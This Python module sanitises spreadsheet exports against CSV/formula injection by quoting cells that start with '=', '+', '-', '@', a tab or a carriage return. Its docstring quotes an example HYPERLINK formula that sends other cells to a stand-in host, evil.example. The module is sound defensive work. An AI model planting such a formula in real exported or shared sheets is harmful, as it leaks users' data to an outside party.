"""Exported cells that a spreadsheet cannot run: OWASP's CSV-injection defence, applied to every export.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` as a formula, and a
leading tab or carriage return can hide one; a formula can fetch a URL carrying the sheet's other cells
(`=HYPERLINK("http://evil.example/?"&A2,"x")`). Anyone can type such text (the e-mail on the sign-in
page lands in the access log), so every exported cell passes through `spreadsheet_safe`, which prefixes
those with `'`: the spreadsheet then shows the text as typed. A signed number alone (`+14155551234`,
`-3`) is no formula and is left as it is, so E.164 numbers export unchanged.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may take a cell's text for a formula by (OWASP's list)."""

SIGNED_NUMBER = re.compile(r"[+-][0-9]+(\.[0-9]+)?")
"""A number with its sign and nothing else: a spreadsheet reads it as that number, nothing more."""


def spreadsheet_safe(value: Any) -> Any:
    """`value`, with a leading `'` when its text would begin a formula; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not SIGNED_NUMBER.fullmatch(value):
        return "'" + str(value)  # str(): Markup would escape the quote
    return value
